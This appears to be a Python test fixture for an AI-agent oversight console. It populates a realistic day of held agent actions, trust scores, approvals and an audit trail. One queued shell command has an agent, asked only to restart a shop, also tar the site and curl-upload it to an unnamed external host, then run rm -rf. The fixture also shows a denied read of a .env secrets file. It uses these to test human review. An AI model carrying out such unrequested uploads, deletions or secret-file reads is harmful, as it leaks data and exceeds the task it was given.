"""A small realistic day: what screens are looked at with."""

import math
from datetime import datetime, timedelta

from core.actions import (
    ActionStatus,
    Counsel,
    Decision,
    Finding,
    JsonObject,
    OutcomeStatus,
    RiskLevel,
)
from core.audit.rules import GENESIS, seal_entries
from core.events import (
    ActionJudged,
    ActionSettled,
    AuditAdvanced,
    CoreEvent,
    OutcomeReported,
)
from core.ids import AgentId, CorrelationId, GrantId, SessionId
from core.ports import AgentView, VerifyReport
from core.records import GrantRecord, PrincipalRecord, Role, SessionRecord, SpanRecord, TrustRecord
from tests.console.fakes import MARIA, PAUL, FakeOperator, action_id
from tests.factories import NOW, make_action_record, make_draft, make_verdict

TRACE = CorrelationId("4bf92f3577b34da6a3ce929d0e0e4736")


def ago(**span: float) -> datetime:
    return NOW - timedelta(**span)


def make_trust(name: str, score: float, *, violations: int = 0, clean: int = 48) -> TrustRecord:
    shares = [score + 0.14 * math.sin(step / 2.1) - 0.05 for step in range(16)]
    history = tuple(
        (ago(minutes=160 - 10 * step), round(share, 2), "clean outcome")
        for step, share in enumerate(shares)
    )
    if violations:
        history = (*history, (ago(minutes=4), score, "denied: reads a secret file"))
    return TrustRecord(
        id=AgentId(name),
        clean=clean,
        violations=violations,
        score=score,
        start=0.5,
        updated_at=ago(minutes=4),
        history=history,
    )


def fill_agents(operator: FakeOperator) -> None:
    for name, score, actions, asked, denied, quarantined in (
        ("claude-code", 0.74, 1204, 31, 8, False),
        ("billing-bot", 0.62, 388, 12, 3, False),
        ("data-export", 0.41, 96, 22, 9, False),
        ("scraper", 0.17, 40, 9, 14, True),
    ):
        operator.agents.append(
            AgentView(
                principal=PrincipalRecord(
                    id=AgentId(name),
                    role=Role.AGENT,
                    permissions=("read_files",),
                    pack="coding-agent",
                    first_seen=ago(days=3),
                    last_seen=ago(seconds=9),
                    quarantined=quarantined,
                ),
                trust=make_trust(name, score, violations=denied // 4),
                actions=actions,
                asked=asked,
                denied=denied,
            )
        )


DEPLOY = """set -euo pipefail
cd /srv/shop
tar czf /tmp/site.tgz public/
curl -fsS -T /tmp/site.tgz https://files.example-cdn.net/u/8c1f/site.tgz
rm -rf public/cache && systemctl restart shop"""


README = "/srv/shop/README.md"
DOTENV = "/srv/shop/.env"


def fill_queue(operator: FakeOperator) -> None:
    session = SessionRecord(
        id=SessionId("s-41c7"),
        agent_id=AgentId("claude-code"),
        purposes=("Restart the shop after clearing its page cache, please.",),
        untrusted=("README", "deploy notes"),
        cwd="/srv/shop",
        started_at=ago(minutes=26),
    )
    recent = tuple(
        make_action_record(
            action={
                "id": action_id(f"r{number}"),
                "agent_id": AgentId("claude-code"),
                "kind": kind,
                "resource": resource,
                "arguments": {name: value},
                "proposed_at": ago(minutes=number + 2),
            },
            status=status,
        )
        for number, (kind, resource, name, value, status) in enumerate(
            (
                ("file.read", README, "file_path", README, ActionStatus.ALLOWED),
                ("shell.execute", "bash", "command", "git status --short", ActionStatus.ALLOWED),
                ("file.read", DOTENV, "file_path", DOTENV, ActionStatus.DENIED),
            )
        )
    )
    upload = DEPLOY.index("curl")
    operator.hold(
        "8f2a1c",
        agent_id=AgentId("claude-code"),
        risk=RiskLevel.HIGH,
        session_id=session.id,
        arguments={"command": DEPLOY, "timeout": 120000, "description": "Deploy and restart"},
        purpose="Restart the shop after clearing its page cache, please.",
        reasons=("The command uploads files to a host that your words do not name.",),
        policies=("ask:shell-risk", "ask:ungrounded-target"),
        findings=(
            Finding(
                code="uploads-file",
                source="shell",
                level=RiskLevel.HIGH,
                message="curl sends /tmp/site.tgz away from this machine",
                path="arguments.command",
                start=upload,
                end=upload + len("curl -fsS -T /tmp/site.tgz https://files.example-cdn.net"),
            ),
            Finding(
                code="deletes-tree",
                source="shell",
                level=RiskLevel.MEDIUM,
                message="rm removes a directory with all that is in it",
                path="arguments.command",
                start=DEPLOY.index("rm -rf"),
                end=DEPLOY.index(" &&"),
            ),
        ),
        counsel=Counsel(
            called_for=True,
            types=("irreversible", "privacy"),
            confidence=0.72,
            basis="rules: a deletion, and an upload to an unknown host",
            advice="Ask for the upload to be left out; the restart does not need it.",
            questions=("Is files.example-cdn.net yours?", "Is public/ free of customer data?"),
        ),
        session=session,
        recent=recent,
        facts={"irreversible": True, "external": True, "grounded": False},
        deadline=NOW + timedelta(seconds=440),
        trust=make_trust("claude-code", 0.74, violations=1),
        created_at=ago(seconds=100),
        expires_at=NOW + timedelta(seconds=500),
    )
    operator.hold(
        "c41d07",
        agent_id=AgentId("billing-bot"),
        kind="tool.call",
        resource="refunds.create",
        risk=RiskLevel.CRITICAL,
        arguments={"account": "DE89 3704 0044", "amount_micros": 4250000000, "note": "goodwill"},
        reasons=("Refunds above 1,000 need two people.",),
        policies=("ask:payments-large",),
        findings=(
            Finding(
                code="amount-large",
                source="policy",
                level=RiskLevel.CRITICAL,
                message="4,250.00 is above the limit of 1,000.00",
                path="arguments.amount_micros",
            ),
        ),
        facts={"amount_micros": 4250000000, "irreversible": True},
        votes_needed=2,
        created_at=ago(seconds=64),
        expires_at=NOW + timedelta(seconds=150),
        trust=make_trust("billing-bot", 0.62),
    )
    operator.hold(
        "77be02",
        agent_id=AgentId("claude-code"),
        kind="file.edit",
        resource="/srv/shop/config/prices.toml",
        risk=RiskLevel.MEDIUM,
        arguments={
            "file_path": "/srv/shop/config/prices.toml",
            "old_string": "[pro]\nprice = 49.00\ncurrency = 'EUR'\n",
            "new_string": "[pro]\nprice = 54.90\ncurrency = 'EUR'\n",
        },
        reasons=("Prices are changed by people.",),
        policies=("ask:prices",),
        created_at=ago(seconds=31),
    )
    for number, tail in enumerate(("b09e41", "b09e42", "b09e43")):
        operator.hold(
            tail,
            agent_id=AgentId("data-export"),
            kind="http.request",
            resource="https://api.partner.example/v2/customers",
            risk=RiskLevel.LOW,
            arguments={"method": "POST", "page": number + 1, "fields": ["name", "city"]},
            facts={"external": True, "people_affected": 40},
            reasons=("Customer data leaves this organisation.",),
            policies=("ask:external",),
            created_at=ago(seconds=12 - number),
        )


JUDGED: JsonObject = {
    "kind": "shell.execute",
    "resource": "bash",
    "decision": "ask",
    "risk": "high",
    "policies": ["ask:shell-risk"],
    "arguments": {"command": "systemctl restart shop"},
}
STORY: tuple[tuple[str, str, JsonObject], ...] = (
    ("action.judged", "claude-code", JUDGED),
    ("approval.deferred", "maria", {"until": "2026-11-21T09:05:00+00:00", "key": "n"}),
    ("approval.approved", "maria", {"reason": "", "key": "a", "shown_digest": "sha256:77"}),
    ("action.outcome", "claude-code", {"status": "succeeded", "error": ""}),
)


def fill_past(operator: FakeOperator) -> None:
    """What was decided before on the like of the first in the queue."""
    operator.past = [
        make_action_record(
            action={
                "id": action_id(f"p{number}"),
                "agent_id": AgentId("claude-code"),
                "proposed_at": ago(hours=number + 1),
            },
            verdict=make_verdict(policies=("ask:shell-risk", "ask:ungrounded-target")),
            status=ActionStatus.DENIED if number % 4 == 0 else ActionStatus.ALLOWED,
            decided_at=ago(hours=number + 1),
            decided_by=PAUL,
        )
        for number in range(9)
    ]


def fill_trail(operator: FakeOperator, length: int = 60) -> None:
    drafts = [
        make_draft(
            event=STORY[number % 4][0],
            at=ago(seconds=3 * (length - number)),
            actor=STORY[number % 4][1],
            action_id=action_id(f"{number // 4:06x}"),
            body=STORY[number % 4][2],
        )
        for number in range(length)
    ]
    operator.entries = list(seal_entries(GENESIS, drafts))
    head = operator.entries[-1].hash
    operator.report = VerifyReport(ok=True, entries=length, head=head, signed_length=length - 4)


def fill_rules(operator: FakeOperator) -> None:
    operator.grants = [
        GrantRecord(
            id=GrantId("0000000000000000000000g001"),
            agent_id=AgentId("claude-code"),
            kind="shell.execute",
            resource_pattern="npm run *",
            created_by=MARIA,
            created_at=ago(minutes=22),
            expires_at=NOW + timedelta(minutes=38),
            from_action=action_id("f00004"),
            risk_max=RiskLevel.MEDIUM,
            used=14,
        ),
        GrantRecord(
            id=GrantId("0000000000000000000000g000"),
            agent_id=AgentId("data-export"),
            kind="http.request",
            resource_pattern="https://api.partner.example/v2/*",
            created_by=PAUL,
            created_at=ago(hours=2),
            expires_at=ago(hours=1),
            from_action=action_id("f00002"),
            risk_max=RiskLevel.LOW,
            used=3,
        ),
    ]


def fill_spans(operator: FakeOperator) -> None:
    rows = (
        ("a1", None, "action.propose", 0, 101_400, True),
        ("a2", "a1", "gate.identify", 40, 120, True),
        ("a3", "a1", "gate.screen", 190, 2_400, True),
        ("a4", "a1", "gate.judge", 2_700, 940, True),
        ("a5", "a1", "gate.counsel", 2_710, 5_200, True),
        ("a6", "a1", "approval.wait", 8_200, 90_000, True),
        ("a7", "a1", "action.execute", 98_400, 2_600, False),
    )
    operator.spans = [
        SpanRecord(
            id=f"{name:0>16}",
            trace_id=TRACE,
            parent_id=None if parent is None else f"{parent:0>16}",
            action_id=action_id("8f2a1c"),
            name=title,
            started_at=NOW + timedelta(microseconds=start),
            duration_us=duration,
            ok=good,
            attributes={"maestro.agent": "claude-code", "maestro.kind": "shell.execute"},
        )
        for name, parent, title, start, duration, good in rows
    ]


def past_events(operator: FakeOperator) -> list[CoreEvent]:
    """What the console hears after it opened."""
    said = (
        (Decision.ALLOW, "file.read", "/srv/shop/README.md", "README.md"),
        (Decision.ALLOW, "shell.execute", "bash", "ls -la public/"),
        (Decision.DENY, "file.read", "/srv/shop/.env", ".env"),
        (Decision.ASK, "shell.execute", "bash", "curl -fsS -T /tmp/site.tgz https://files…"),
        (Decision.ALLOW, "tool.call", "orders.list", "since=2026-11-20 limit=50"),
        (Decision.ASK, "tool.call", "refunds.create", "account=DE89 3704 0044"),
    )
    events: list[CoreEvent] = [
        ActionJudged(
            at=ago(seconds=58 - 3 * number),
            action_id=action_id(f"f{number:05}"),
            agent_id=AgentId("claude-code" if number % 3 else "billing-bot"),
            correlation_id=TRACE,
            session_id=None,
            kind=kind,
            resource=resource,
            summary=summary,
            decision=decision,
            risk=RiskLevel.LOW,
            reasons=(),
            latency_us=1_800 + 410 * number,
        )
        for number, (decision, kind, resource, summary) in enumerate(said * 3)
    ]
    events.append(
        ActionSettled(
            at=ago(seconds=3),
            action_id=action_id("f00003"),
            agent_id=AgentId("claude-code"),
            correlation_id=TRACE,
            decision=Decision.DENY,
            status="denied",
            by=PAUL,
            reason="leave the upload out",
            edited=False,
        )
    )
    events.append(
        OutcomeReported(
            at=ago(seconds=2),
            action_id=action_id("f00001"),
            agent_id=AgentId("claude-code"),
            correlation_id=TRACE,
            status=OutcomeStatus.FAILED,
            error="exit code 2: no such file",
        )
    )
    if operator.entries:
        last = operator.entries[-1]
        events.append(AuditAdvanced(at=NOW, length=last.seq, head=last.hash))
    return events


def busy_operator() -> FakeOperator:
    operator = FakeOperator()
    fill_agents(operator)
    fill_queue(operator)
    fill_past(operator)
    fill_trail(operator)
    fill_rules(operator)
    fill_spans(operator)
    return operator


__all__ = ["MARIA", "busy_operator", "past_events"]
